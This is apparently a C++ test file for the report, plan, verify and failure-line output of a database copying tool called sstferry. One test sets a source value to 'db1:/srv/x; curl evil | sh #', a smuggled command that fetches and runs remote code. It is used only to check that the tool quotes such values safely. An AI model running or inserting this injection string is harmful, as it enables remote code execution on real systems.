#include <algorithm>

#include "format/quantity.h"
#include "tests/support/catch.h"
#include "tools/sstferry/console.h"
#include "tools/sstferry/operation_runner.h"
#include "tools/sstferry/progress.h"

namespace sstferry::report_test {
namespace {

Summary FinishedPull() {
  Summary summary;
  summary.source = "sst://h:7420/db";
  summary.target = "/copy";
  summary.column_families = {"default", "x"};
  summary.entries = 1'000'000;
  summary.key_value_bytes = 272'000'000;
  summary.sst_bytes = 275'000'000;
  summary.seconds = 0.5;
  summary.chunks = 5;
  summary.levels = {{0, 0}, {6, 5}};
  summary.mode = "pull";
  summary.method = "ingest";
  summary.method_reason = "asked for";
  summary.snapshot_taken_seconds = 1'795'572'003;
  summary.wire_bytes = 280'000'000;
  summary.verified = true;
  return summary;
}

std::string LastLine(const std::string& text) {
  REQUIRE(text.back() == '\n');
  const size_t start = text.rfind('\n', text.size() - 2);
  return text.substr(start + 1, text.size() - start - 2);
}

}  // namespace

TEST_CASE("A pull's report is four lines, from the replica to the verdict",
          "[tools]") {
  Summary summary = FinishedPull();
  std::string report = PullReport(summary);
  INFO(report);
  REQUIRE(report ==
          "replica is as of 2026-11-25T02:00:03Z, 1,000,000 keys, 280.0 MB "
          "sent\n"
          "source: sst://h:7420/db, 2 column families at sequence 0\n"
          "method: ingest, 275.0 MB in 5 chunks; 0.50 s, 550.0 MB/s (asked "
          "for)\n"
          "verified: equal\n");
  summary.source_database_id = "5d0c-1";
  REQUIRE(PullReport(summary).find("\nsource: " + summary.source +
                                   " (database 5d0c-1), ") !=
          std::string::npos);
  summary.opens_since = "6.27";
  summary.opens_because = "XXH3 checksums";
  REQUIRE(LastLine(PullReport(summary)) ==
          "verified: equal; opens with RocksDB 6.27 or later (XXH3 checksums)");
  summary.opens_since.clear();

  summary.source_stage_seconds["held_cpu"] = 3;
  summary.source_stage_seconds["held_io"] = 0.5;
  REQUIRE(PullReport(summary).find(
              "\nthrottled: 3.50 s, while the source's application waited "
              "(3.00 s for CPUs, 0.50 s for its disk); --max-rate none turns "
              "this off\n") !=
          std::string::npos);
  summary.source_stage_seconds.clear();

  summary.verified = false;
  report = PullReport(summary);
  REQUIRE(LastLine(report).find("not verified: --verify, or ") == 0);
  REQUIRE(report.find("verified: equal") == std::string::npos);

  summary.chunks_resumed = 3;
  summary.sst_bytes_resumed = summary.sst_bytes / 2;
  report = PullReport(summary);
  REQUIRE(report.find(", 137.5 MB of them received by earlier runs; ") !=
          std::string::npos);
  REQUIRE(report.find("275.0 MB/s") != std::string::npos);
  summary.target_stage_seconds["delete"] = 0.25;  // not part of the rate
  REQUIRE(PullReport(summary).find(
              "; 0.50 s, 0.25 s of it for deletions, 550.0 MB/s (") !=
          std::string::npos);
}

TEST_CASE("A report writes a count of one with a singular noun", "[tools]") {
  Summary summary = FinishedPull();
  summary.chunks = summary.entries = 1;
  summary.column_families = {"default"};
  const std::string report = PullReport(summary);
  INFO(report);
  for (const char* word : {" 1 key,", " in 1 chunk;", ", 1 column family "}) {
    INFO(word);
    REQUIRE(report.find(word) != std::string::npos);
  }
}

TEST_CASE("FormatCount uses the singular noun only for one", "[tools]") {
  REQUIRE(FormatCount(0, "chunk") == "0 chunks");
  REQUIRE(FormatCount(1, "chunk") == "1 chunk");
  REQUIRE(FormatCount(2, "entry", "entries") == "2 entries");
  REQUIRE(FormatCount(1'234'567, "key") == "1,234,567 keys");
}

TEST_CASE("A refresh's report begins with the changes", "[tools][refresh]") {
  Summary summary = FinishedPull();
  summary.mode = "refresh";
  summary.entries = 6'900;
  summary.entries_deleted = 50;
  summary.wire_bytes = 14'000'000;
  summary.sequence_old = 7;
  summary.snapshot_sequence = 9;
  summary.parts_unchanged = 28;
  summary.parts_sent = 9;
  summary.bytes_read = 7'000'000;
  summary.bytes_written = 2'000'000;
  const std::string report = PullReport(summary);
  INFO(report);
  REQUIRE(report.find("replica is as of 2026-11-25T02:00:03Z, 6,950 keys "
                      "changed, 14.0 MB sent\n") == 0);
  REQUIRE(report.find(" at sequence 9, was 7\nrefresh: parts: 28 unchanged, 0 "
                      "compared, 9 sent; 7.0 MB read, 2.0 MB written; ") !=
          std::string::npos);
  summary.entries = summary.entries_deleted = 0;
  REQUIRE(PullReport(summary).find("Z, nothing changed, ") !=
          std::string::npos);
}

TEST_CASE("A swap's report says how long the application was down",
          "[tools]") {
  Summary summary = FinishedPull();
  summary.mode = "swap";
  summary.method = "clone";
  summary.files_cloned = 5;
  summary.files_reused = 4;
  summary.bytes_reused = 12'000'000;
  summary.exchanged = true;
  summary.outage_seconds = 0.05;
  std::string report = PullReport(summary);
  INFO(report);
  REQUIRE(report.find("Z, 5 files of 9 new, 280.0 MB sent, application down "
                      "0.05 s\n") != std::string::npos);
  REQUIRE(report.find(" in 5 units, 4 files with 12.0 MB reused; ") !=
          std::string::npos);
  summary.exchanged = false;
  summary.files_cloned = 0;
  report = PullReport(summary);
  REQUIRE(report.find("Z, nothing changed, 280.0 MB sent, not swapped\n") !=
          std::string::npos);
}

TEST_CASE("A verify's report says what was compared and what differs",
          "[tools]") {
  Summary summary;
  summary.entries_left = summary.entries_right = 7;
  summary.left = {"/a", "", "id", 9, "", 0};
  summary.right = {"/b", "", "other", 0, "00ff", 9};
  REQUIRE(VerifyReport(summary) ==
          "equal: 7 entries on both sides\n"
          "left:  /a at sequence 9\n"
          "right: /b at sequence 0, pulled from left at sequence 9\n");

  summary.left.snapshot_transfer_id = "aa00";
  REQUIRE(VerifyReport(summary).find(
              "\nleft:  /a, snapshot of aa00 at sequence 9\n") !=
          std::string::npos);
  summary.left.snapshot_transfer_id.clear();

  const bool changed = GENERATE(false, true);
  summary.status = MakeStatus(
      changed ? EndState::kChangedSince : EndState::kDifferent,
      "3 differences; because", "sstferry pull /a /b\x1b");
  summary.differences = 3;
  summary.first_differences = {
      {"default", std::string("\0k", 2), 2, "value differs", ""}};
  const std::string report = VerifyReport(summary);
  INFO(report);
  REQUIRE(report.find(changed ? "changed since: 3 differences; because\n"
                              : "different: 3 differences; because\n") == 0);
  REQUIRE(report.find("left:  /a at sequence 9\n") != std::string::npos);
  REQUIRE(report.find("\"0x006B\": value differs\n") != std::string::npos);
  REQUIRE(report.find("and 2 more (--show N") != std::string::npos);
  REQUIRE(LastLine(report) == "next: sstferry pull /a /b?");
  REQUIRE(report.find("next: ") == report.rfind("next: "));
}

TEST_CASE("A verify's report shortens long keys and names and shows their "
          "lengths",
          "[tools]") {
  Summary summary;
  summary.status = MakeStatus(EndState::kDifferent, "1 difference");
  summary.differences = 1;
  summary.first_differences = {{std::string(4096, 'f'),
                                std::string(kMaxShownKeyBytes, '\0'), 262'144,
                                "only left", ""}};
  const std::string report = VerifyReport(summary);
  INFO(report);
  REQUIRE(report.size() < 1200);
  REQUIRE(report.find("... (4096 bytes): \"0x00") != std::string::npos);
  REQUIRE(report.find("... (262144 bytes): only left") != std::string::npos);
}

TEST_CASE("A plan's report shows families, items, disk and notes",
          "[tools]") {
  Summary summary = FinishedPull();
  summary.transfer_id = "00ff";
  summary.items = {{"default", "a", "m", "8.sst", 110'000'000, "rebuild", ""},
                   {"default", "n", "z", "9.sst", 90'000'000, "rebuild", ""}};
  summary.notes = {"writes without WAL are not in it"};
  summary.method = "ingest";
  summary.method_reason = "asked for\n";
  summary.files_reused = 3;
  summary.bytes_reused = 5'000'000;
  summary.needed_bytes = 220'000'000;
  summary.free_bytes = 7'000'000'000;
  const std::string report = PlanReport(summary, false);
  INFO(report);
  for (const char* word :
       {"COLUMN FAMILY", "default", "200.0 MB", "FIRST", "LAST", "9.sst",
        "rebuild", "220.0 MB", "\nrebuild: 2 files, 200.0 MB\n",
        "\nmethod: ingest (asked for?)\n",
        "\nreused: 3 files, 5.0 MB, which this machine has\n",
        "\ndisk: the target needs 220.0 MB; 7.0 GB are free there; ",
        "note: writes without WAL are not in it"}) {
    REQUIRE(report.find(word) != std::string::npos);
  }
  REQUIRE(report.find("disk: ") < report.find("COLUMN FAMILY"));
}

TEST_CASE("A plan of a refresh in place lists intervals and no method",
          "[tools]") {
  Summary summary = FinishedPull();
  summary.mode = "refresh";
  summary.method = "ingest";
  summary.transfer_id = "00ff";
  summary.items = {
      {"default", "a", "z", "", 90'000'000, "delta", "if digests differ"},
      {"new", "a", "z", "", 1'000'000, "rebuild", "the replica has nothing"}};
  MethodSummary clone;
  clone.method = "clone";
  clone.why_not = "not in place";
  summary.methods = {clone};
  const std::string report = PlanReport(summary, false);
  INFO(report);
  for (const char* word :
       {"INTERVALS", "if digests differ",
        "delta: 1 interval, 90.0 MB to read and compare on both sides; what "
        "differs is sent\nrebuild: 1 interval, 1.0 MB to send\n"}) {
    REQUIRE(report.find(word) != std::string::npos);
  }
  for (const char* word : {"FILE", "replace", "METHOD", "clone"}) {
    REQUIRE(report.find(word) == std::string::npos);
  }

  summary.items.assign(55, summary.items[0]);
  REQUIRE(PlanReport(summary, false).find("\nand 15 more (--json lists all)") !=
          std::string::npos);
  summary.items.resize(40);
  REQUIRE(PlanReport(summary, false).find(" more (") == std::string::npos);
}

TEST_CASE("A plan of a server lists the databases that it serves", "[tools]") {
  Summary summary;
  summary.source = "sst://h:7420";
  summary.served_names = {"a", "b"};
  const std::string report = PlanReport(summary, false);
  INFO(report);
  REQUIRE(report.find("sst://h:7420/a\n") != std::string::npos);
  REQUIRE(report.find("sst://h:7420/b\n") != std::string::npos);
}

TEST_CASE("A failure line has the state, the message and the place",
          "[tools]") {
  const std::string line =
      FailureLine("pull", MakeStatus(EndState::kNoSpace, "disk\nfull\x1b"),
                  "/staging");
  REQUIRE(line == "sstferry pull: NO_SPACE: disk?full? (/staging)");
  REQUIRE(FailureLine("pull",
                      MakeStatus(EndState::kNoSpace, "disk full", "rm junk"),
                      "/staging") ==
          "sstferry pull: NO_SPACE: disk full (/staging)");
}

TEST_CASE("The command that follows a source again is quoted", "[tools]") {
  StatusReport report;
  report.standby.emplace();
  report.standby->source = "db1:/srv/x; curl evil | sh #";
  const std::string text = StatusText("/data/my standby", report);
  INFO(text);
  REQUIRE(text.find("or sstferry follow 'db1:/srv/x; curl evil | sh #' "
                    "'/data/my standby' with the options") !=
          std::string::npos);
}

TEST_CASE("A failure line names the source once", "[tools]") {
  const auto line = [](const std::string& message, const std::string& where) {
    return FailureLine("pull", MakeStatus(EndState::kRefused, message), where);
  };
  const std::string head = "sstferry pull: REFUSED: no such database";
  REQUIRE(line("no such database (source)", "source in-process") ==
          head + " (source)");
  REQUIRE(line("no such database (source)", "source 192.0.2.7:7420") ==
          head + " (source 192.0.2.7:7420)");
  REQUIRE(line("no such database (source)", "source") == head + " (source)");
  REQUIRE(line("no such database (source)", "target") == head + " (source)");
  REQUIRE(line("no such database", "source in-process") ==
          head + " (source in-process)");
  REQUIRE(line("no such database", "") == head);
}

}  // namespace sstferry::report_test
